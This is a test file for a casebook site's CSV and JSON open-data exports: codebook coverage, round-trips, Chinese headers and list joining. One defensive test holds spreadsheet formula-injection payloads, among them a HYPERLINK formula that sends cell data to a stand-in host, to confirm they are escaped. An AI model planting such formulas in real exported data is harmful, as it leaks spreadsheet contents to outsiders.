import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { codebook, LIST_SEPARATOR, toCsv, toJson, toRows } from '../../src/lib/open-data.ts';
import { readLibrary } from '../../scripts/lib/read-library.ts';
import type { CollectionName } from '../../src/schemas/index.ts';

const { library } = readLibrary('content');
const SITE = 'https://example.org/casebook/';

/** CSV records keyed by the JSON keys, through the codebook's Chinese headers. */
function byKey(collection: CollectionName, records: Record<string, string>[]): Record<string, string>[] {
  const book = codebook(collection);
  return records.map((r) => Object.fromEntries(book.map((c) => [c.name, r[c.header] ?? ''])));
}

describe('codebook', () => {
  test('documents every column of every collection from the schema descriptions', () => {
    for (const collection of ['reports', 'cases', 'rules'] as CollectionName[]) {
      const columns = codebook(collection);
      expect(columns.filter((c) => c.description === '').map((c) => c.name)).toEqual([]);
      expect(columns.map((c) => c.name)).toContain('region');
    }
    expect(codebook('reports').map((c) => c.name)).toEqual(expect.arrayContaining(['speaker.name', 'source.publisher']));
  });
});

describe('exports round-trip', () => {
  for (const collection of ['reports', 'cases', 'rules'] as CollectionName[]) {
    test(`${collection}: CSV and JSON parse back to the collection`, () => {
      const entries = library[collection];
      const rows = toRows(collection, entries, SITE);
      const csv = toCsv(collection, rows);
      expect(csv.startsWith('\uFEFF')).toBe(true);
      const parsed = byKey(collection, parse(csv.slice(1), { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[]);
      expect(parsed).toHaveLength(entries.length);
      const json = JSON.parse(toJson(rows)) as Record<string, unknown>[];
      entries.forEach((entry, i) => {
        expect(parsed[i]?.['id']).toBe(entry.id);
        expect(parsed[i]?.['title']).toBe(entry.data.title);
        expect(parsed[i]?.['region']).toBe(entry.data.region);
        expect(parsed[i]?.['url']).toBe(`${SITE}${collection}/${entry.id}/`);
        expect(json[i]?.['title']).toBe(entry.data.title);
      });
    });
  }

  test('list fields are joined by ； in CSV and stay lists in JSON', () => {
    const rows = toRows('cases', library.cases, SITE);
    const parsed = byKey('cases', parse(toCsv('cases', rows).slice(1), { columns: true }) as Record<string, string>[]);
    library.cases.forEach((entry, i) => {
      expect(parsed[i]?.['themes']?.split(LIST_SEPARATOR)).toEqual(entry.data.themes);
      expect(rows[i]?.['sources']).toEqual(entry.data.sources);
    });
  });
});

describe('CSV for people', () => {
  test('has Chinese column headers that the codebook maps to the JSON keys, and theme names beside the codes', () => {
    const names = new Map(library.themes.map((t) => [t.id, t.name]));
    const rows = toRows('cases', library.cases, SITE, names);
    const [header] = parse(toCsv('cases', rows).slice(1), { to_line: 1 }) as string[][];
    expect(header?.slice(0, 6)).toEqual(['编号', '网址', '地区名称', '案例名称', '行政区划代码', '单位']);
    expect(header?.every((h) => /\p{Script=Han}/u.test(h))).toBe(true);
    expect(codebook('reports').map((c) => c.header)).toEqual(expect.arrayContaining(['发言人姓名', '出处发布单位']));
    const parsed = byKey('cases', parse(toCsv('cases', rows).slice(1), { columns: true }) as Record<string, string>[]);
    library.cases.forEach((entry, i) => {
      expect(parsed[i]?.['themeNames']?.split(LIST_SEPARATOR)).toEqual(entry.data.themes.map((id) => names.get(id)));
    });
    expect(JSON.parse(toJson(rows))[0]).toHaveProperty('themes');
  });
});

describe('spreadsheet formulas', () => {
  test('a title that is a formula reaches the CSV as text, not as a live formula', () => {
    const [entry] = library.cases;
    const title = '=HYPERLINK("https://x.example/?"&A2,"打开")';
    const rows = toRows('cases', [{ ...entry, data: { ...entry?.data, title, summary: '+SUM(1,2)', organization: '@cmd' } } as never], SITE);
    const parsed = byKey('cases', parse(toCsv('cases', rows).slice(1), { columns: true }) as Record<string, string>[]);
    expect(parsed[0]?.['title']).toBe(`'${title}`);
    expect(parsed[0]?.['summary']).toBe(`'+SUM(1,2)`);
    expect(parsed[0]?.['organization']).toBe(`'@cmd`);
  });
});
